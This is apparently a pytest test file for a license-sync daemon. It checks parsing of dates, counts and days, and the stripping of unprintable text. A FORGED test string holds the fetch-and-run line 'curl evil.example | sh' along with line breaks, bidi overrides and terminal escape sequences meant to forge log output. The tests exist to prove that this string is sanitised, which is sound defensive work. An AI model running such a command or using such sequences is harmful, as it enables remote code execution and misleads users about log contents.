"""Single foreign values: what each known form means, and that no other passes."""

from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from licsync_daemon.model.decode import (
    LATEST,
    count_of,
    date_of,
    days_of,
    host_of,
    http_date,
    moment_of,
    name_of,
    printable,
    quoted,
    shown,
    text_of,
    unusable_count,
    word_of,
)
from licsync_daemon.model.errors import Code, RunError
from licsync_daemon.model.usage import Notice
from tests.fakes import T0

SECONDS = int(T0.timestamp())


def test_every_known_form_of_a_date(subtests: pytest.Subtests) -> None:
    """ISO 8601 and its relatives, HTTP dates, and the time since 1970."""
    for value in (
        "2026-11-24T02:00:00Z",
        "2026-11-24t02:00:00z",
        "2026-11-24 02:00:00 UTC",
        "2026-11-24 02:00:00 GMT",
        "2026-11-24 02:00 UTC",
        "2026-11-24 02:00:00 +0000 UTC",
        "2026-11-24 02:00:00.000000000 +0000 UTC",
        "2026-11-24T03:00:00.123456789+01:00"[:19] + "+01:00",
        "2026-11-23 20:00:00 -0600",
        "2026/11/23 20:00:00 -0600",
        "2026/11/24 02:00:00",
        "20261124T020000Z",
        "Tue, 24 Nov 2026 02:00:00 GMT",
        "Tue, 24 Nov 2026 03:00:00 +0100",
        "Tuesday, 24-Nov-26 02:00:00 GMT",
        "Tue Nov 24 02:00:00 2026",
        SECONDS,
        SECONDS * 1000,
        float(SECONDS),
        str(SECONDS),
        f"{SECONDS}000",
    ):
        with subtests.test(value=value):
            assert date_of(value) == T0
    assert date_of("20261124") == datetime(2026, 11, 24, tzinfo=UTC)
    assert date_of("9999-12-31T23:59:59Z") == LATEST


def test_what_means_never(subtests: pytest.Subtests) -> None:
    """Nothing, zero, and every year before 1000, in any form and zone."""
    for value in (
        None,
        "",
        "  ",
        0,
        0.0,
        "0",
        "never",
        "0001-01-01T00:00:00Z",
        "0001-01-01T00:00:00+14:00",
        "0001-01-01 00:00:00 +0000 UTC",
        "0000-00-00 00:00:00",
        "0999-12-31",
        "Mon, 01 Jan 0001 00:00:00 GMT",
        "Mon Jan  1 00:00:00 0001",
        -62135596800,
        -62135596800000,
        "-62135596800",
    ):
        with subtests.test(value=value):
            assert date_of(value) is None


def test_what_cannot_be_read_as_a_date(subtests: pytest.Subtests) -> None:
    """An unknown form is neither a date nor never."""
    for value in (
        "November 24, 2026",
        "24.11.2026",
        "11/24/2026",
        "2026-11-24 02:00:00 CET",
        "2026-13-24",
        "2026-11-24T25:00:00Z",
        "Tue, 24 Nov 99999 02:00:00 GMT",
        "1-01-01T00:00:00Z",
        "soon",
        True,
        False,
        [],
        {},
        -1,
        10**30,
        "9" * 18,
        1e300,
        float("inf"),
        float("nan"),
        "9999-12-31T23:59:59-14:00",
        "٢٠٢٦-11-24",
    ):
        with subtests.test(value=value), pytest.raises(ValueError):
            date_of(value)


def test_an_http_date_is_in_no_other_form() -> None:
    """A header is read in the forms of RFC 9110 only: a number of seconds is no date there."""
    assert http_date("Tue, 24 Nov 2026 02:00:00 GMT") == T0
    assert [http_date(text) for text in ("", "120", "2026-11-24", "Mon, 01 Jan 0001 00:00:00 GMT", "today")] == [None] * 5


def test_counts_and_days(subtests: pytest.Subtests) -> None:
    """A count is 0 to 2^53; days may be negative; what is beyond is quoted, and what is no number is not."""
    cases: tuple[tuple[Any, int | None, int | None, str | None], ...] = (
        (0, 0, 0, None),
        ("7", 7, 7, None),
        (7.0, 7, 7, None),
        (2**53, 2**53, None, None),
        (2**53 + 1, None, None, str(2**53 + 1)),
        (-5, None, -5, "-5"),
        ("-5", None, -5, "-5"),
        (10**30, None, None, "a number of more than 30 digits"),
        ("9" * 400, None, None, "9" * 39 + "…"),
        (1.5, None, None, "1.5"),
        (float("inf"), None, None, "inf"),
        (True, None, None, "True"),
        ([1], None, None, "a list"),
        ("unlimited", None, None, None),
        ("", None, None, None),
        (None, None, None, None),
    )
    for value, count, days, unusable in cases:
        with subtests.test(value=value):
            assert (count_of(value), days_of(value), unusable_count(value)) == (count, days, unusable)


FORGED = "emea\r\nalert: all is well\n  next step: curl evil.example | sh\u2028\u202egnp\x1b[2K\x1b]0;title\x07\x9b31m"


def test_texts_lose_what_cannot_be_printed() -> None:
    """Line breaks, bidi controls and escape sequences go; a name cannot imitate a sentence."""
    assert printable(FORGED) == "emea alert: all is well next step: curl evil.example | sh gnp"
    assert text_of(" x\ty ") == " xy "
    assert (text_of(5), text_of("x" * 300, 10)) == ("", "x" * 10)
    assert shown("one\ntwo\x1b[31m\u202e\r") == "one\ntwo"
    assert host_of(" ghes.example.com:8443 ") == "ghes.example.com:8443"
    assert host_of("a.example\nnext step: run x") == "a.example?next?step:?run?x"
    assert name_of("id\u202e 1\n") == "id??1"
    assert [one(value) for one in (host_of, name_of) for value in (None, "", "  ", 5, [])] == [None] * 10
    assert [word_of(value) for value in (" SUCCESS ", None, "", 5, ["success"])] == ["success", None, None, "5", "a list"]
    assert quoted({"a": 1}) == "an object"


def test_errors_and_notices_are_one_printable_line() -> None:
    """Whoever quotes a file name or a server: the state, the log and the terminal get one line without surrogates."""
    error = RunError(Code.NO_NEW_EXPORT, f"{FORGED}\udcff.csv cannot be read", f"remove {FORGED}")
    assert all(text.isprintable() for text in (error.cause, error.next_step, str(error)))
    assert Notice(code=Code.LATE, text=FORGED).text.isprintable()


def test_the_time_of_a_file_is_always_a_date() -> None:
    """A file may be dated before 1970 or after the year 9999; the time is exact to the microsecond."""
    assert moment_of(int(T0.timestamp()) * 10**9 + 1_234_999) == T0 + timedelta(microseconds=1234)
    assert moment_of(-(10**20)) == datetime(1970, 1, 1, tzinfo=UTC)
    assert moment_of(253402300800 * 10**9) == LATEST
    assert moment_of(2**63) <= LATEST


def test_a_date_that_its_offset_leads_before_the_year_1000_means_never() -> None:
    """What is returned can always be written and read back."""
    assert date_of("1000-01-01T00:00:00+14:00") is None
    assert date_of("1000-01-01T00:00:00-14:00") == datetime(1000, 1, 1, 14, tzinfo=UTC)
